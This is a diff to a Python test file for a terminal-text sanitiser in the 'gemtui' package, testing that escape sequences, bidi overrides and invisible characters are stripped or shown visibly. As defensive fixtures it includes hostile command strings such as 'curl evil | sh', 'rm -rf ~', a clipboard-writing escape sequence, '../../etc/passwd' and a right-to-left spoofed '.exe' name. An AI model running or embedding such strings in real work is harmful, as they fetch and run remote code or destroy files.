@@ -15,18 +15,25 @@ from gemtui.text import (
     cells,
     clean,
     clean_line,
+    command_line,
     ellipsis,
     file_name,
+    holds_controls,
     one_line,
     relative,
     size,
+    visible,
+    visible_line,
 )
 
 CONTROLS = "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0)]))
 BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
 FORBIDDEN = (set(CONTROLS) - set("\n\t")) | set(BIDI) | set("\u2028\u2029")
 
-PIECES = ["\u2028", "\u2029", "\ud83d", "\udc00", "\r\n", "\x1b\\", "\x1b[", "\x1b]52;c;"]
+SCOTLAND = "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"
+
+PIECES = [SCOTLAND, *"\u200b\u200c\u200d\ufe0f\U000e0041\U0001f3f4\u2764\u0645\xad", "\x1b[31m"]
+PIECES += ["\u2028", "\u2029", "\ud83d", "\udc00", "\r\n", "\x1b\\", "\x1b[", "\x1b]52;c;"]
 PIECES += ["\x1bP", "\x1b_", "\x9b3", "\x9d0;", "\x9c", "31m", "[", "]", *CONTROLS, *BIDI]
 foreign = st.lists(
     st.one_of(st.text(), st.text(st.characters()), st.sampled_from(PIECES)),
@@ -56,25 +63,29 @@ def test_harmless_text_is_kept_as_it_is(text: str) -> None:
     [
         ("a\tb\nc", "a\tb\nc"),
         ("\x1b[1;31mred\x1b[0m", "red"),
-        ("\x1b[38;2;1;2;3mx", "x"),
+        ("\x1b[38;2;1;2;3mx\x1b[4:3my", "xy"),
         ("\x9b31mred\x9b0m", "red"),
-        ("\x1b[31", ""),
-        ("\x1b[31é", "é"),
-        ("\x1b", ""),
-        ("\x1b(Bx\x1b7y\x1bcz", "xyz"),
-        ("a\x1b]52;c;cm0gLXJm\x07b", "ab"),
-        ("a\x1b]0;title\x1b\\b", "ab"),
-        ("a\x9d0;title\x9cb", "ab"),
-        ("a\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\b", "alinkb"),
-        ("a\x1bPq#0;2\x1b\\b\x1b_apc\x1b\\c\x1b^pm\x1b\\d\x1bXsos\x1b\\e", "abcde"),
-        ("a\x1b]52;c;cut short\nnext line", "a\nnext line"),
-        ("a\x1b]52;c;\x1b[31mb", "ab"),
-        ("\x1b\x1b[31m[31m", "[31m"),
+        ("\x1b[01;31m\x1b[Kfound\x1b[m\x1b[K", "found"),
+        ("\x1b[31", "␛[31"),
+        ("\x1b[31é", "␛[31é"),
+        ("\x1b", "␛"),
+        ("\x1b(Bx\x1b7y\x1bcz", "␛(Bx␛7y␛cz"),
+        ("a\x1b[2J\x1b[Hb\x1b[1Kc", "a␛[2J␛[Hb␛[1Kc"),
+        ("a\x1b]52;c;cm0gLXJm\x07b", "a␛]52;c;cm0gLXJm␇b"),
+        ("a\x1b]0;title\x1b\\b", "a␛]0;title␛\\b"),
+        ("a\x9d0;title\x9cb", "a⟨U+009D⟩0;title⟨U+009C⟩b"),
+        ("a\x1bPq#0;2\x1b\\b\x1b_apc", "a␛Pq#0;2␛\\b␛_apc"),
+        ("ls -la \x1b]0 ; curl evil | sh", "ls -la ␛]0 ; curl evil | sh"),
+        ("a\x1b]52;c;\x1b[31mb", "a␛]52;c;b"),
+        ("\x1b\x1b[31m[31m", "␛[31m"),
         ("one\r\ntwo\rthree\x85four\u2028five\u2029six", "one\ntwo\nthree\nfour\nfive\nsix"),
-        ("a\x00b\x07c\x08d\x7fe\x0bf", "abcdef"),
+        ("a\x00b\x07c\x08d\x7fe\x0bf", "a␀b␇c␈d␡e␋f"),
         ("\ud800x", "\ufffdx"),
-        ("abc\u202egnp.exe", "abcgnp.exe"),
-        ("\u2066a\u2069\u200e\u061cb", "ab"),
+        ("abc\u202egnp.exe", "abc⟨U+202E⟩gnp.exe"),
+        ("\u2066a\u2069\u200e\u061cb", "⟨U+2066⟩a⟨U+2069⟩⟨U+200E⟩⟨U+061C⟩b"),
+        ("a\U000e0068\U000e0069b", "a⟨U+E0068⟩⟨U+E0069⟩b"),
+        (SCOTLAND, SCOTLAND),
+        ("soft\xadhyphen, ไทย\u200bไทย", "soft\xadhyphen, ไทย\u200bไทย"),
         ("👨\u200d👩\u200d👧 نص", "👨\u200d👩\u200d👧 نص"),
     ],
 )
@@ -82,13 +93,82 @@ def test_clean(text: str, cleaned: str) -> None:
     assert clean(text) == cleaned
 
 
+@given(foreign)
+def test_cleaning_removes_only_colours_and_line_ends(text: str) -> None:
+    plain = "".join(char for char in text if char.isprintable() and char not in "m0123456789:;[K")
+    position = 0
+    cleaned = clean(text)
+    for char in plain:
+        position = cleaned.index(char, position) + 1
+
+
 @pytest.mark.parametrize(
-    "evil", ["\x9d", "\x9d\n", "\x1b]", "\x1b[", "\x1b[1", "\x1b[ ", "\x1b]a\n"]
+    ("command", "shown"),
+    [
+        ("ls -la \x1b]0 ; curl evil | sh", "ls -la ␛]0 ; curl evil | sh"),
+        ("ls \x1b]0;x\x07; rm -rf ~", "ls ␛]0;x␇; rm -rf ~"),
+        ("ec\x1b[8mho\x1b[0m", "ec␛[8mho␛[0m"),
+        ("a\rb\r\nc\x85d\u2028e\u2029f", "a␍b␍\nc⟨U+0085⟩d⟨U+2028⟩e⟨U+2029⟩f"),
+        (
+            "rm a\u200bb \xad \u2060 \ufeff \u3164",
+            "rm a⟨U+200B⟩b ⟨U+00AD⟩ ⟨U+2060⟩ ⟨U+FEFF⟩ ⟨U+3164⟩",
+        ),
+        ("a\ufe0f\u200db", "a⟨U+FE0F⟩⟨U+200D⟩b"),
+        ("a\u200db, 👍\U000e0101", "a⟨U+200D⟩b, 👍⟨U+E0101⟩"),
+        ("👍\ufe0f\ufe01", "👍\ufe0f⟨U+FE01⟩"),
+        ("\udc9b\u202e", "\ufffd⟨U+202E⟩"),
+    ],
+)
+def test_every_character_of_a_command_can_be_seen(command: str, shown: str) -> None:
+    assert visible(command) == shown
+    assert holds_controls(command)
+    assert command_line(command) == f"[holds control characters] {visible_line(command)}"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "",
+        "git commit -m 'ä 日本 👨\u200d👩\u200d👧 ❤\ufe0f\u200d🔥 1\ufe0f\u20e3 می\u200cخواهم'",
+        f"echo {SCOTLAND}",
+        "cat <<EOF\n\tindented\nEOF\n",
+    ],
+)
+def test_an_honest_command_is_shown_as_it_is(command: str) -> None:
+    assert visible(command) == command
+    assert not holds_controls(command)
+    assert command_line(command) == visible_line(command)
+
+
+def test_a_command_on_one_line_shows_where_its_lines_end() -> None:
+    assert visible_line("# look\nrm  -rf\tx\n") == "# look␊rm  -rf x"
+
+
+@given(foreign)
+def test_what_is_visible_is_clean_and_stays_so(text: str) -> None:
+    shown = visible(text)
+    assert visible(shown) == shown
+    assert clean(shown) == shown
+    assert not holds_controls(shown)
+    assert not FORBIDDEN & set(shown)
+    shown.encode()
+
+
+@given(foreign, foreign)
+def test_what_differs_looks_different_or_is_marked(one: str, other: str) -> None:
+    if one != other and not holds_controls(one) and not holds_controls(other):
+        assert visible(one) != visible(other)
+
+
+@pytest.mark.parametrize(
+    "evil",
+    ["\x9d", "\x9d\n", "\x1b]", "\x1b[", "\x1b[1", "\x1b[ ", "\x1b]a\n", "\U0001f3f4\U000e0061"],
 )
 def test_cleaning_takes_time_in_proportion_to_the_text(evil: str) -> None:
     def seconds(times: int) -> float:
         start = time.perf_counter()
         clean(evil * times)
+        visible(evil * times)
         return time.perf_counter() - start
 
     assert min(seconds(100_000) for _ in range(3)) < 60 * min(seconds(10_000) for _ in range(3))
@@ -175,7 +255,7 @@ def test_relative(ago: timedelta, words: str) -> None:
     [
         ("Fix the parser", "Fix-the-parser"),
         ("../../etc/passwd", "etc-passwd"),
-        ("a\x1b]0;t\x07b\nc\u202e", "ab-c"),
+        ("a\x1b]0;t\x07b\nc\x1b[0m", "a-0-t-b-c"),
         ('x<>:"/\\|?*y', "x-y"),
         ("-rf", "rf"),
         ("con.txt", "_con.txt"),
@@ -220,7 +300,7 @@ def test_size() -> None:
     [
         ("git  push ", "git  push "),
         ("a\tb\r\nc\u2028d", "a b c d"),
-        ("a\x1b[31m  b\x1b]0;x\x07\u202e", "a  b"),
+        ("a\x1b[31m  b\x1b]0;x\x07\u202e", "a  b␛]0;x␇⟨U+202E⟩"),
     ],
 )
 def test_a_line_that_keeps_its_blanks(text: str, line: str) -> None:
